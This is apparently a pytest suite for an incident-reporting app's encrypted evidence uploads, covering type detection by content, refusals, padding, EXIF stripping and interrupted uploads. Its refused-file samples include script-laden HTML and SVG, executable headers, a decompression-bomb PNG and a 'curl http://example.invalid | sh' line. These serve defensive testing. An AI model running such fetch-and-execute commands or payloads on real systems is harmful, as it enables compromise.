"""Evidence files: accepted by content, refused with a message, sealed as read, opened off-server.

Every test runs on SQLite and on PostgreSQL. Files are tiny real files (Pillow images, a minimal
PDF, container headers followed by bytes). "Nothing stored" means no report, addition or
attachment row and no file under ``instance/attachments`` (``partial/`` included).
"""

from __future__ import annotations

import dataclasses
import hashlib
import io
import json
import logging
import random
import re
import struct
import tempfile
import uuid
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
import werkzeug.formparser
from flask import Flask
from flask.testing import FlaskClient, FlaskCliRunner
from PIL import Image
from werkzeug.datastructures import FileStorage
from werkzeug.test import EnvironBuilder, TestResponse, encode_multipart

from incidents import cli, crypto, uploads
from incidents.config import Settings
from incidents.db import db
from incidents.models import Addition, Attachment, Report
from incidents.services import casefile
from incidents.services.attachments import AttachmentError, decrypt_to, meta_field_name
from incidents.uploads import PARTIAL_DIRECTORY, attachment_directory
from tests.conftest import KeyFiles
from tests.factories import (
    csrf_token,
    jpeg_with_gps,
    make_filed_report,
    minimal_pdf,
    receipt_from,
    report_form_data,
)

NARRATIVE = "They photographed us at the protest and followed us to the tram."
PLACE = "tram stop by the market"
KEEP_FILES_AGAIN = "Files are not kept when the form has to be corrected"


# --------------------------------------------------------------------------- sample files


def noise(size: int, *, seed: int = 1) -> bytes:
    """Random bytes standing in for the body of a media file."""
    return random.Random(seed).randbytes(size)  # noqa: S311 - filler, not a secret


def image_bytes(fmt: str, *, size: tuple[int, int] = (32, 24)) -> bytes:
    """A real image in ``fmt`` made with Pillow."""
    out = io.BytesIO()
    Image.new("RGB", size, (10, 120, 200)).save(out, format=fmt)
    return out.getvalue()


def ftyp(brand: bytes) -> bytes:
    """An ISO base media file (MP4, MOV, M4A, HEIC): an "ftyp" box, then bytes."""
    box = b"ftyp" + brand + b"\x00\x00\x02\x00" + brand + b"isom"
    return struct.pack(">I", 4 + len(box)) + box + noise(3000)


def png_claiming(width: int, height: int) -> bytes:
    """A PNG whose header claims ``width`` x ``height`` 1-bit pixels (a tiny body follows)."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        crc = zlib.crc32(kind + body) & 0xFFFFFFFF
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", crc)

    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(bytes(1000)))
        + chunk(b"IEND", b"")
    )


_BOMB: list[bytes] = []


def real_png_bomb() -> bytes:
    """A valid 20000 x 20000 1-bit PNG: about 50 KB that decode to 400 million pixels."""
    if not _BOMB:
        out = io.BytesIO()
        Image.new("1", (20000, 20000)).save(out, format="PNG", optimize=False)
        _BOMB.append(out.getvalue())
    return _BOMB[0]


ACCEPTED: dict[str, tuple[Callable[[], bytes], str]] = {
    # kind: (content, mime type recorded); file names below deliberately say something else
    "jpeg": (lambda: image_bytes("JPEG"), "image/jpeg"),
    "png": (lambda: image_bytes("PNG"), "image/png"),
    "webp": (lambda: image_bytes("WEBP"), "image/webp"),
    "pdf": (minimal_pdf, "application/pdf"),
    "mp4": (lambda: ftyp(b"isom"), "video/mp4"),
    "mov": (lambda: ftyp(b"qt  "), "video/quicktime"),
    "m4a": (lambda: ftyp(b"M4A "), "audio/mp4"),
    "heic": (lambda: ftyp(b"heic"), "image/heic"),
    "ogg": (lambda: b"OggS\x00\x02" + noise(2000), "audio/ogg"),
    "mp3": (lambda: b"ID3\x04\x00\x00\x00\x00\x00\x00" + noise(2000), "audio/mpeg"),
    "aac": (lambda: b"\xff\xf1\x50\x80\x02\x1f\xfc" + noise(2000), "audio/aac"),
    "text": (lambda: "Они сказали: «мы знаем, где ты живёшь».\n".encode(), "text/plain"),
}


def unknown(name: str) -> str:
    """The message for a file whose content is not an accepted type."""
    return (
        f"{name} is not a kind of file we accept. Accepted: photos (JPEG, PNG, HEIC, WebP), "
        "PDF, video (MP4, MOV), audio (M4A, AAC, OGG, MP3) and plain text."
    )


REFUSED: dict[str, tuple[Callable[[], bytes], str, str]] = {
    # kind: (content, file name, message)
    "html named .jpg": (
        lambda: b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>",
        "photo.jpg",
        unknown("photo.jpg"),
    ),
    "html with a BOM and capitals": (
        lambda: b"\xef\xbb\xbf  <HTML><BODY onload=x()>hi</BODY></HTML>",
        "note.txt",
        unknown("note.txt"),
    ),
    "svg": (
        lambda: b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script/></svg>',
        "drawing.png",
        unknown("drawing.png"),
    ),
    "windows executable": (
        lambda: b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + noise(500),
        "photo.jpg",
        unknown("photo.jpg"),
    ),
    "elf executable": (
        lambda: b"\x7fELF\x02\x01\x01\x00" + bytes(8) + noise(500),
        "video.mp4",
        unknown("video.mp4"),
    ),
    "shell script": (
        lambda: b"#!/bin/sh\ncurl http://example.invalid | sh\n",
        "notes.txt",
        unknown("notes.txt"),
    ),
    "unknown ftyp brand": (
        lambda: ftyp(b"xxxx"),
        "clip.mp4",
        unknown("clip.mp4"),
    ),
    "zero bytes": (lambda: b"", "empty.jpg", "empty.jpg is empty."),
    "decompression bomb png": (
        real_png_bomb,
        "bomb.png",
        "bomb.png has too many pixels to be handled safely.",
    ),
    "png header claiming 12000 x 12000": (
        lambda: png_claiming(12000, 12000),
        "big.png",
        "big.png has too many pixels to be handled safely.",
    ),
    "png header claiming 100000 x 100000": (
        lambda: png_claiming(100_000, 100_000),
        "huge.png",
        "huge.png has too many pixels to be handled safely.",
    ),
    "jpeg with an unparseable header": (
        lambda: b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\xff\x00" * 300,
        "photo.jpg",
        "photo.jpg looks like an image but could not be read.",
    ),
    "png with a broken header": (
        lambda: b"\x89PNG\r\n\x1a\n" + noise(200),
        "photo.png",
        "photo.png looks like an image but could not be read.",
    ),
}


# --------------------------------------------------------------------------- helpers


FileSpec = tuple[bytes, str]


def post_report(
    client: FlaskClient, files: list[FileSpec], *, lang: str | None = None, **overrides: Any
) -> TestResponse:
    """Send the report form with files, as a browser sends it (multipart)."""
    token = csrf_token(client, f"/report?lang={lang}" if lang else "/report")
    data: dict[str, Any] = {
        "csrf_token": token,
        **report_form_data(**{"narrative": NARRATIVE, "place_detail": PLACE, **overrides}),
        "attachments": [(io.BytesIO(body), name) for body, name in files],
    }
    return client.post("/report", data=data, content_type="multipart/form-data")


def post_addition(client: FlaskClient, receipt: str, files: list[FileSpec], text: str = "") -> Any:
    """Send the follow-up "add information" form with files."""
    data: dict[str, Any] = {
        "csrf_token": csrf_token(client, "/followup"),
        "receipt": receipt,
        "text": text,
        "attachments": [(io.BytesIO(body), name) for body, name in files],
    }
    return client.post("/followup/add", data=data, content_type="multipart/form-data")


def attachments_folder(app: Flask) -> Path:
    """``instance/attachments`` of the app under test."""
    return attachment_directory(app.extensions["incidents.settings"].instance_path)


def stored_files(app: Flask) -> list[Path]:
    """Every file under ``instance/attachments``, ``partial/`` included."""
    folder = attachments_folder(app)
    return sorted(path for path in folder.rglob("*") if path.is_file()) if folder.exists() else []


def stored_rows(app: Flask) -> dict[str, int]:
    """Rows of the tables an upload writes."""
    with app.app_context():
        counts = {
            model.__tablename__: db.session.scalar(sa.select(sa.func.count()).select_from(model))
            or 0
            for model in (Report, Addition, Attachment)
        }
        db.session.remove()
    return counts


def assert_nothing_stored(app: Flask, before: dict[str, int] | None = None) -> None:
    """No new row, and no file at all under instance/attachments."""
    assert stored_rows(app) == (before or {"reports": 0, "additions": 0, "attachments": 0})
    assert stored_files(app) == []


def file_errors(response: TestResponse) -> list[str]:
    """Messages shown next to the file field."""
    match = re.search(
        r'<ul class="field-errors" id="attachments-errors">(.*?)</ul>', response.text, re.S
    )
    return re.findall(r"<li>(.*?)</li>", match.group(1), re.S) if match else []


def only_report(app: Flask) -> uuid.UUID:
    """Id of the one stored report."""
    with app.app_context():
        return db.session.scalars(sa.select(Report.id)).one()


def attachment_rows(app: Flask) -> list[Attachment]:
    """All attachment rows, in order (detached)."""
    with app.app_context():
        rows = list(db.session.scalars(sa.select(Attachment).order_by(Attachment.seq)).all())
        db.session.expunge_all()
        return rows


def run_attachment(
    runner: FlaskCliRunner, organizer: KeyFiles, report_id: uuid.UUID, number: int, *args: str
) -> Any:
    """Run ``flask reports attachment ID N --key FILE ...`` with the passphrase in the env."""
    return runner.invoke(
        args=[
            "reports",
            "attachment",
            str(report_id),
            str(number),
            "--key",
            str(organizer.private_path),
            *args,
        ],
        env={cli.PASSPHRASE_VARIABLE: organizer.passphrase},
    )


# --------------------------------------------------------------------------- accepted types


def test_every_accepted_type_is_recognised_by_content_whatever_its_name(
    app: Flask, client: FlaskClient, organizer: KeyFiles
) -> None:
    # Given: one file of each accepted type, each with a misleading name
    kinds = list(ACCEPTED)
    samples = {kind: ACCEPTED[kind][0]() for kind in kinds}
    names = {kind: f"file-{index}.exe" for index, kind in enumerate(kinds)}

    # When: they are sent with reports, five at a time
    for start in range(0, len(kinds), 5):
        batch = kinds[start : start + 5]
        response = post_report(client, [(samples[k], names[k]) for k in batch])
        assert response.status_code == 200, (batch, file_errors(response))

    # Then: each is stored with the type its content has, and its size and hash
    opened = {}
    with app.app_context():
        for report_id in db.session.scalars(sa.select(Report.id)).all():
            for item in casefile.open_case(
                report_id, private_key=organizer.private_key
            ).attachments:
                opened[item.name] = item
    assert {kind: opened[names[kind]].type for kind in kinds} == {
        kind: ACCEPTED[kind][1] for kind in kinds
    }
    for kind in kinds:
        assert opened[names[kind]].size == len(samples[kind])
        assert opened[names[kind]].sha256 == hashlib.sha256(samples[kind]).hexdigest()


def test_files_are_accepted_in_the_follow_up_too(
    app: Flask, client: FlaskClient, organizer: KeyFiles
) -> None:
    filed = make_filed_report(app)
    files = [(ACCEPTED[k][0](), f"{k}.bin") for k in ("png", "pdf", "mov", "ogg", "text")]

    response = post_addition(client, filed.receipt, files)

    assert response.status_code == 200, file_errors(response)
    with app.app_context():
        case = casefile.open_case(filed.report_id, private_key=organizer.private_key)
    assert [(a.name, a.type) for a in case.attachments] == [
        ("png.bin", "image/png"),
        ("pdf.bin", "application/pdf"),
        ("mov.bin", "video/quicktime"),
        ("ogg.bin", "audio/ogg"),
        ("text.bin", "text/plain"),
    ]


def test_the_form_warns_about_location_in_photos_before_sending(client: FlaskClient) -> None:
    for url in ("/report", "/report?lang=ru", "/report?lang=sr"):
        page = client.get(url).text
        warning = re.search(
            r'<div class="warning" id="attachments-warning">(.*?)</div>', page, re.S
        )
        assert warning, url
        assert 'aria-describedby="attachments-warning' in page
    assert "Photos can reveal where and when they were taken" in client.get("/report?lang=en").text


# --------------------------------------------------------------------------- refused files


@pytest.mark.filterwarnings("ignore::PIL.Image.DecompressionBombWarning")
def test_each_refused_file_gets_its_message_and_nothing_is_stored(
    app: Flask, client: FlaskClient
) -> None:
    wrong = []
    for kind, (make, name, message) in REFUSED.items():
        # When: a witness sends the form with this file
        response = post_report(client, [(make(), name)])

        # Then: 400, the message next to the file field, everything typed kept, nothing stored
        if response.status_code != 400 or file_errors(response) != [message]:
            wrong.append((kind, response.status_code, file_errors(response)))
            continue
        assert NARRATIVE in response.text, kind
        assert f'value="{PLACE}"' in response.text, kind
        assert KEEP_FILES_AGAIN in response.text, kind
        assert "Traceback" not in response.text
        assert_nothing_stored(app)
    assert wrong == []


@pytest.mark.filterwarnings("ignore::PIL.Image.DecompressionBombWarning")
def test_each_refused_file_is_refused_in_the_follow_up_and_the_text_kept(
    app: Flask, client: FlaskClient
) -> None:
    filed = make_filed_report(app)
    before = stored_rows(app)
    wrong = []
    for kind, (make, name, message) in REFUSED.items():
        response = post_addition(client, filed.receipt, [(make(), name)], text="kept words")
        if response.status_code != 400 or file_errors(response) != [message]:
            wrong.append((kind, response.status_code, file_errors(response)))
            continue
        assert "kept words" in response.text
        assert_nothing_stored(app, before)
    assert wrong == []


def test_refusals_are_translated(app: Flask, client: FlaskClient) -> None:
    response = post_report(client, [(b"", "pusto.txt"), (b"MZ\x90\x00", "foto.jpg")], lang="ru")
    assert response.status_code == 400
    assert file_errors(response) == [
        "pusto.txt: файл пуст.",
        "foto.jpg: файлы такого типа не принимаются. Принимаются: фотографии (JPEG, PNG, HEIC, "
        "WebP), PDF, видео (MP4, MOV), аудио (M4A, AAC, OGG, MP3) и обычный текст.",
    ]
    assert_nothing_stored(app)


def test_one_refused_file_keeps_the_accepted_ones_from_being_stored(
    app: Flask, client: FlaskClient
) -> None:
    response = post_report(
        client,
        [(jpeg_with_gps(), "good.jpg"), (minimal_pdf(), "good.pdf"), (b"#!/bin/sh\n", "bad.jpg")],
    )
    assert response.status_code == 400
    assert file_errors(response) == [unknown("bad.jpg")]
    assert_nothing_stored(app)


def test_an_invalid_form_with_good_files_stores_no_file(app: Flask, client: FlaskClient) -> None:
    response = post_report(client, [(jpeg_with_gps(), "good.jpg")], narrative="")
    assert response.status_code == 400
    assert "Please describe what happened." in response.text
    assert_nothing_stored(app)


def test_six_files_are_refused_and_none_is_stored(app: Flask, client: FlaskClient) -> None:
    files = [(f"note {n}".encode(), f"note-{n}.txt") for n in range(1, 7)]

    response = post_report(client, files)

    assert response.status_code == 400
    assert file_errors(response) == [
        "note-6.txt was not accepted: at most 5 files can be sent at once."
    ]
    assert NARRATIVE in response.text
    assert_nothing_stored(app)


def test_five_files_are_accepted(app: Flask, client: FlaskClient) -> None:
    files = [(f"note {n}".encode(), f"note-{n}.txt") for n in range(1, 6)]
    assert post_report(client, files).status_code == 200
    assert len(attachment_rows(app)) == 5


@pytest.fixture
def small_limit_app(settings: Settings, make_app: Callable[[Settings], Flask]) -> Flask:
    """The app with a 1 MB limit per attachment."""
    return make_app(dataclasses.replace(settings, max_attachment_bytes=1024 * 1024))


def test_a_file_over_the_limit_is_refused_and_nothing_is_stored(small_limit_app: Flask) -> None:
    client = small_limit_app.test_client()
    exactly = b"a" * (1024 * 1024)

    over = post_report(client, [(exactly + b"a", "long.txt")])
    assert over.status_code == 400
    assert file_errors(over) == ["long.txt is larger than 1 MB."]
    assert NARRATIVE in over.text
    assert_nothing_stored(small_limit_app)

    at_limit = post_report(client, [(exactly, "long.txt")])
    assert at_limit.status_code == 200
    assert len(attachment_rows(small_limit_app)) == 1


def test_a_request_over_the_whole_limit_gets_the_413_page(small_limit_app: Flask) -> None:
    client = small_limit_app.test_client()
    settings = small_limit_app.extensions["incidents.settings"]

    response = post_report(client, [(b"a" * (settings.max_content_length + 1), "huge.txt")])

    assert response.status_code == 413
    assert "Too much data" in response.text
    assert_nothing_stored(small_limit_app)


# --------------------------------------------------------------------------- stored sizes


def test_stored_sizes_are_padding_buckets_not_file_sizes(
    app: Flask, client: FlaskClient, organizer: KeyFiles
) -> None:
    # Given: files of very different sizes, two of them in the smallest bucket
    sizes = [10, 1000, 70_000, 300_001]
    files = [(b"t" * size, f"f{size}.txt") for size in sizes]

    # When: they are filed
    assert post_report(client, files).status_code == 200

    # Then: the clear padded_size is the bucket, and the ciphertext file size follows it
    rows = attachment_rows(app)
    buckets = [crypto.padded_attachment_length(size) for size in sizes]
    assert [row.padded_size for row in rows] == buckets == [65536, 65536, 71680, 303104]
    assert not {row.padded_size for row in rows} & set(sizes)
    folder = attachments_folder(app)
    on_disk = [(folder / row.id.hex).stat().st_size for row in rows]
    assert on_disk[0] == on_disk[1]
    assert on_disk == [13 + b + 16 * -(-b // 65536) for b in buckets]

    # And: the sealed metadata gives back the real size and hash
    with app.app_context():
        case = casefile.open_case(only_report(app), private_key=organizer.private_key)
    assert [(a.name, a.size, a.sha256) for a in case.attachments] == [
        (f"f{size}.txt", size, hashlib.sha256(b"t" * size).hexdigest()) for size in sizes
    ]
    assert [a.padded_size for a in case.attachments] == buckets


def test_no_attachment_plaintext_or_name_is_stored_in_clear(
    app: Flask, client: FlaskClient
) -> None:
    marker = f"EVIDENCE-{uuid.uuid4().hex}"
    body = (marker + "\n").encode() * 5000
    name = f"{marker}.txt"

    assert post_report(client, [(body, name)]).status_code == 200

    for path in stored_files(app):
        assert marker.encode() not in path.read_bytes()
        assert marker not in str(path)
    with app.app_context():
        (row,) = db.session.scalars(sa.select(Attachment)).all()
        assert marker.encode() not in row.meta_sealed
        assert hashlib.sha256(body).hexdigest().encode() not in row.meta_sealed


def test_photo_metadata_never_reaches_the_logs_even_at_debug(
    app: Flask, client: FlaskClient, caplog: pytest.LogCaptureFixture
) -> None:
    # Given: every logger of the process at DEBUG, and a photo whose EXIF names a place
    caplog.set_level(logging.DEBUG)
    marker = f"Bulevar-{uuid.uuid4().hex[:12]}"
    photo = jpeg_with_gps(comment=marker, serial=f"SN-{marker}")

    # When: it is filed (the server reads its header to check its size)
    assert post_report(client, [(photo, "photo.jpg")]).status_code == 200

    # Then: no log record holds its metadata
    assert marker not in caplog.text
    assert "GPS" not in caplog.text


# --------------------------------------------------------------------------- opening off-server


@pytest.fixture
def photo_report(app: Flask, client: FlaskClient) -> tuple[uuid.UUID, bytes, bytes]:
    """A report filed with a JPEG carrying GPS EXIF (1) and a PDF (2)."""
    photo = jpeg_with_gps(size=(120, 80), comment="taken at the rally")
    pdf = minimal_pdf("summons")
    response = post_report(client, [(photo, "IMG_0042.jpg"), (pdf, "summons.pdf")])
    assert response.status_code == 200
    receipt_from(response)
    return only_report(app), photo, pdf


def test_the_cli_writes_the_original_with_a_verified_hash(
    runner: FlaskCliRunner,
    organizer: KeyFiles,
    photo_report: tuple[uuid.UUID, bytes, bytes],
    tmp_path: Path,
) -> None:
    report_id, photo, pdf = photo_report
    for number, original, name in ((1, photo, "IMG_0042.jpg"), (2, pdf, "summons.pdf")):
        out = tmp_path / f"out-{number}"

        result = run_attachment(runner, organizer, report_id, number, "--out", str(out))

        assert result.exit_code == 0, result.output
        assert out.read_bytes() == original
        assert name in result.output
        assert f"SHA-256:  {hashlib.sha256(original).hexdigest()}" in result.output
        assert oct(out.stat().st_mode & 0o777) == oct(0o600)


def test_a_flipped_byte_in_the_stored_file_fails_clearly_and_writes_nothing(
    app: Flask,
    runner: FlaskCliRunner,
    organizer: KeyFiles,
    photo_report: tuple[uuid.UUID, bytes, bytes],
    tmp_path: Path,
) -> None:
    # Given: one byte of the first chunk of the stored ciphertext is flipped
    report_id, _photo, _pdf = photo_report
    path = attachments_folder(app) / attachment_rows(app)[0].id.hex
    damaged = bytearray(path.read_bytes())
    damaged[500] ^= 0x20
    path.write_bytes(bytes(damaged))
    out = tmp_path / "original.jpg"

    # When: the organizer saves the attachment
    result = run_attachment(runner, organizer, report_id, 1, "--out", str(out))

    # Then: one clear error, no traceback, and no file written
    assert result.exit_code != 0
    assert "Traceback" not in result.output
    assert "decryption failed" in result.output
    assert "altered" in result.output
    assert not out.exists()


def test_a_ciphertext_file_moved_to_another_attachment_fails(
    app: Flask,
    runner: FlaskCliRunner,
    organizer: KeyFiles,
    photo_report: tuple[uuid.UUID, bytes, bytes],
    tmp_path: Path,
) -> None:
    report_id, _photo, _pdf = photo_report
    first, second = (attachments_folder(app) / row.id.hex for row in attachment_rows(app))
    second.write_bytes(first.read_bytes())
    out = tmp_path / "summons.pdf"

    result = run_attachment(runner, organizer, report_id, 2, "--out", str(out))

    assert result.exit_code != 0
    assert "decryption failed" in result.output
    assert not out.exists()


def test_the_working_copy_of_a_photo_has_no_exif_and_the_same_pixels_size(
    runner: FlaskCliRunner,
    organizer: KeyFiles,
    photo_report: tuple[uuid.UUID, bytes, bytes],
    tmp_path: Path,
) -> None:
    # Given: the original carries GPS, a camera serial and a comment
    report_id, photo, _pdf = photo_report
    with Image.open(io.BytesIO(photo)) as original:
        assert original.getexif().get_ifd(0x8825), "the sample has no GPS position"
    out, copy = tmp_path / "original.jpg", tmp_path / "working.jpg"

    # When: the organizer saves the original and a working copy
    result = run_attachment(
        runner, organizer, report_id, 1, "--out", str(out), "--working-copy", str(copy)
    )

    # Then: the original is untouched, and the copy has no metadata at all
    assert result.exit_code == 0, result.output
    assert out.read_bytes() == photo
    data = copy.read_bytes()
    with Image.open(io.BytesIO(data)) as clean:
        assert clean.format == "JPEG"
        assert clean.size == (120, 80)
        assert len(clean.getexif()) == 0
        assert not clean.info.get("exif")
        assert "comment" not in clean.info
    for trace in (b"Exif", b"GPS", b"SN-TEST-0001", b"ExampleCam", b"taken at the rally"):
        assert trace not in data, trace


def test_no_working_copy_is_made_of_a_pdf(
    runner: FlaskCliRunner,
    organizer: KeyFiles,
    photo_report: tuple[uuid.UUID, bytes, bytes],
    tmp_path: Path,
) -> None:
    report_id, _photo, _pdf = photo_report
    copy = tmp_path / "working.pdf"

    result = run_attachment(
        runner,
        organizer,
        report_id,
        2,
        "--out",
        str(tmp_path / "summons.pdf"),
        "--working-copy",
        str(copy),
    )

    assert result.exit_code != 0
    assert "Traceback" not in result.output
    assert "no working copy can be made of application/pdf files" in result.output
    assert not copy.exists()
    assert not (tmp_path / "summons.pdf").exists()  # refused before anything is written


def sealed_attachment(content: bytes, *, recorded_size: int) -> tuple[Attachment, bytes, bytes]:
    """An attachment row (not stored) whose sealed metadata records ``recorded_size``."""
    data_key, envelope_id, attachment_id = crypto.new_data_key(), uuid.uuid4(), uuid.uuid4()
    sink = io.BytesIO()
    sealer = crypto.StreamSealer(
        crypto.attachment_key(data_key, attachment_id=attachment_id), sink=sink
    )
    sealer.write(content)
    padded = sealer.finish()
    meta = {"name": "a.txt", "type": "text/plain", "size": recorded_size}
    meta["sha256"] = hashlib.sha256(content).hexdigest()
    row = Attachment(
        id=attachment_id,
        envelope_id=envelope_id,
        padded_size=padded,
        meta_sealed=crypto.seal_bytes(
            json.dumps(meta).encode(),
            data_key=data_key,
            report_id=envelope_id,
            name=meta_field_name(attachment_id),
            floor=256,
        ),
    )
    return row, data_key, sink.getvalue()


def test_a_recorded_size_inside_the_padding_is_caught_by_the_sealed_hash() -> None:
    # The stream cannot tell content from zero padding; the SHA-256 sealed with the metadata
    # can. A size reaching into the padding yields extra zeros, and the hash check refuses them.
    row, data_key, blob = sealed_attachment(b"tiny", recorded_size=10)
    sink = io.BytesIO()
    with pytest.raises(AttachmentError, match="SHA-256"):
        decrypt_to(row, data_key=data_key, source=io.BytesIO(blob), sink=sink)


def test_a_recorded_size_beyond_the_padding_fails_decryption() -> None:
    row, data_key, blob = sealed_attachment(b"tiny", recorded_size=70_000)
    with pytest.raises(crypto.DecryptionError):
        decrypt_to(row, data_key=data_key, source=io.BytesIO(blob), sink=io.BytesIO())


def test_the_recorded_size_and_hash_open_the_file() -> None:
    row, data_key, blob = sealed_attachment(b"tiny", recorded_size=4)
    sink = io.BytesIO()
    meta = decrypt_to(row, data_key=data_key, source=io.BytesIO(blob), sink=sink)
    assert (sink.getvalue(), meta.size) == (b"tiny", 4)


# --------------------------------------------------------------------------- never spooled


class SpoolAttemptError(AssertionError):
    """Raised by the patched temporary-file factories: something tried to spool to disk."""


@pytest.fixture
def no_temp_files(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Make every temporary-file factory (and Werkzeug's spooling) raise; yield the attempts."""
    attempts: list[str] = []

    def refuse(name: str) -> Callable[..., Any]:
        def factory(*_args: Any, **_kwargs: Any) -> Any:
            attempts.append(name)
            raise SpoolAttemptError(f"{name} was called during an upload")

        return factory

    for name in ("SpooledTemporaryFile", "TemporaryFile", "NamedTemporaryFile", "mkstemp"):
        monkeypatch.setattr(tempfile, name, refuse(f"tempfile.{name}"))
    for name in ("SpooledTemporaryFile", "default_stream_factory"):
        monkeypatch.setattr(werkzeug.formparser, name, refuse(f"werkzeug.formparser.{name}"))
    return attempts


def multipart(fields: dict[str, Any]) -> tuple[str, bytes]:
    """Encode a multipart body in memory (the test client would spool a large one itself)."""
    values = {
        key: FileStorage(io.BytesIO(value[0]), value[1]) if isinstance(value, tuple) else value
        for key, value in fields.items()
    }
    boundary, body = encode_multipart(values)
    return f"multipart/form-data; boundary={boundary}", body


def test_a_2_mb_upload_is_sealed_without_any_temporary_file(
    app: Flask, client: FlaskClient, organizer: KeyFiles, no_temp_files: list[str]
) -> None:
    # Given: a 2 MB photo, with every way of spooling it to disk made to fail
    photo = jpeg_with_gps() + noise(2 * 1024 * 1024)
    content_type, body = multipart(
        {
            "csrf_token": csrf_token(client),
            **report_form_data(),
            "attachments": (photo, "photo.jpg"),
        }
    )

    # When: it is filed
    response = client.post(
        "/report", input_stream=io.BytesIO(body), content_type=content_type,
        content_length=len(body),
    )  # fmt: skip

    # Then: the report is stored, nothing tried to spool, and the organizer opens the photo
    assert response.status_code == 200, file_errors(response)
    assert no_temp_files == []
    with app.app_context():
        meta, data = casefile.open_attachment_bytes(
            only_report(app),
            1,
            private_key=organizer.private_key,
            instance_path=app.extensions["incidents.settings"].instance_path,
        )
    assert data == photo
    assert meta.sha256 == hashlib.sha256(photo).hexdigest()


def test_the_spooling_guard_catches_werkzeugs_default_parser(no_temp_files: list[str]) -> None:
    # The guard above is not vacuous: Werkzeug's own parser hits it on the same kind of body.
    content_type, body = multipart({"attachments": (noise(600 * 1024), "photo.jpg")})
    environ = EnvironBuilder(
        method="POST", input_stream=io.BytesIO(body), content_type=content_type,
        content_length=len(body),
    ).get_environ()  # fmt: skip
    with pytest.raises(SpoolAttemptError):
        werkzeug.formparser.parse_form_data(environ)
    assert no_temp_files


# --------------------------------------------------------------------------- cut connections


@pytest.fixture
def opened_partials(monkeypatch: pytest.MonkeyPatch) -> list[Path]:
    """Record every partial ciphertext file an upload opens."""
    opened: list[Path] = []
    real_open = uploads.UploadBatch.open_upload

    def recording(self: uploads.UploadBatch, filename: str) -> uploads.SealingUpload:
        upload = real_open(self, filename)
        opened.append(upload.partial_path)
        return upload

    monkeypatch.setattr(uploads.UploadBatch, "open_upload", recording)
    return opened


def cut_body(body: bytes) -> dict[str, Any]:
    """Ways a connection can end in the middle of a file."""
    half = body[: len(body) // 2]
    return {
        "shorter than its Content-Length": {
            "input_stream": io.BytesIO(half),
            "content_length": len(body),
        },
        "ends without the closing boundary": {
            "input_stream": io.BytesIO(half),
            "content_length": len(half),
        },
    }


@pytest.mark.parametrize("where", ["report", "follow-up"])
def test_a_connection_cut_mid_upload_stores_nothing(
    app: Flask, client: FlaskClient, opened_partials: list[Path], where: str
) -> None:
    # Given: a form with a 1 MB file, in the report form or the follow-up
    photo = jpeg_with_gps() + noise(1024 * 1024)
    if where == "report":
        path = "/report"
        fields = {"csrf_token": csrf_token(client), **report_form_data()}
        before = stored_rows(app)
    else:
        path = "/followup/add"
        receipt = make_filed_report(app).receipt
        fields = {"csrf_token": csrf_token(client, "/followup"), "receipt": receipt, "text": "x"}
        before = stored_rows(app)
    content_type, body = multipart({**fields, "attachments": (photo, "photo.jpg")})

    for cut, stream in cut_body(body).items():
        opened_partials.clear()

        # When: the connection ends half-way through the file
        response = client.post(path, content_type=content_type, **stream)

        # Then: the file had started to be sealed, and nothing of it is kept
        assert response.status_code == 400, cut
        assert "Traceback" not in response.text
        assert len(opened_partials) == 1, cut
        assert not opened_partials[0].exists(), cut
        assert_nothing_stored(app, before)
        assert not list((attachments_folder(app) / PARTIAL_DIRECTORY).iterdir())
